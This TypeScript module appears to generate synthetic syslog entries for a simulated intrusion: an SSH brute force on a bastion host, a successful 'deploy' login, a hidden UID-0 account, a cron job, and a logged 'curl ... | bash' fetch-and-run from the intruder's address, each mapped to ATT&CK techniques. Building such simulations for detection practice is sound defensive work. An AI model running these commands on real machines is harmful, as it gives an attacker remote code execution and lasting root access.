import { minute, second } from './calendar.ts';
import { sshd, syslogText, type LinuxLine } from './linux.ts';
import type { Telling } from './story.ts';
import { intruder } from './world.ts';

const guessed = ['root', 'admin', 'ubuntu', 'deploy', 'oracle', 'postgres', 'git', 'test'] as const;

/** A second intruder, or the same one: guessed passwords on the bastion, one of which is right. */
export function bruteForce(telling: Telling): void {
  const { estate, sink, rng, evening, step } = telling;
  const bastion = estate.server('bastion01');
  const from = evening - 95 * minute;
  const say = (at: number, line: LinuxLine) => sink.syslogLine(at, syslogText(bastion, at, line));
  let at = from;
  for (let n = 0; n < 180; n++, at += rng.int(2, 6) * second) {
    const user = rng.pick(guessed);
    const known = user === 'root' || user === 'deploy';
    say(
      at,
      sshd(
        rng,
        `Failed password for ${known ? '' : 'invalid user '}${user} from ${intruder.bruteForceIp} port ${rng.int(30_000, 60_000)} ssh2`,
      ),
    );
  }
  step(from, {
    stage: 'ssh-brute-force',
    tactic: 'Credential Access',
    technique: 'T1110.001',
    description: '180 passwords are tried on the bastion within a quarter of an hour',
    entities: { accounts: ['root', 'deploy'], devices: [bastion.name], ips: [intruder.bruteForceIp] },
    tables: ['Syslog'],
  });
  say(at, sshd(rng, `Accepted password for deploy from ${intruder.bruteForceIp} port 41822 ssh2`));
  say(at + second, sshd(rng, 'pam_unix(sshd:session): session opened for user deploy(uid=1005) by deploy(uid=0)'));
  step(at, {
    stage: 'ssh-success',
    tactic: 'Initial Access',
    technique: 'T1078.003',
    description: 'One of them is right: deploy signs in with a password',
    entities: { accounts: ['deploy'], devices: [bastion.name], ips: [intruder.bruteForceIp] },
    tables: ['Syslog'],
  });
  const after = at + 3 * minute;
  const sudo = (command: string): LinuxLine => ({
    facility: 'authpriv',
    severity: 'notice',
    program: 'sudo',
    pid: rng.int(2_000, 60_000),
    message: `deploy : TTY=pts/1 ; PWD=/home/deploy ; USER=root ; COMMAND=${command}`,
  });
  say(after, sudo('/usr/sbin/useradd -m -o -u 0 sysupd'));
  say(after + second, {
    facility: 'authpriv',
    severity: 'info',
    program: 'useradd',
    pid: rng.int(2_000, 60_000),
    message: 'new user: name=sysupd, UID=0, GID=1006, home=/home/sysupd, shell=/bin/bash, from=/dev/pts/1',
  });
  say(after + 50 * second, sudo(`/usr/bin/bash -c curl -s http://${intruder.bruteForceIp}/u.sh | bash`));
  say(after + 80 * second, {
    facility: 'cron',
    severity: 'info',
    program: 'crontab',
    pid: rng.int(2_000, 60_000),
    message: '(sysupd) REPLACE (sysupd)',
  });
  step(after + second, {
    stage: 'linux-account',
    tactic: 'Persistence',
    technique: 'T1136.001',
    description: 'A second account with UID 0 and a cron job are made on the bastion',
    entities: { accounts: ['deploy', 'sysupd'], devices: [bastion.name], ips: [intruder.bruteForceIp] },
    tables: ['Syslog'],
  });
}
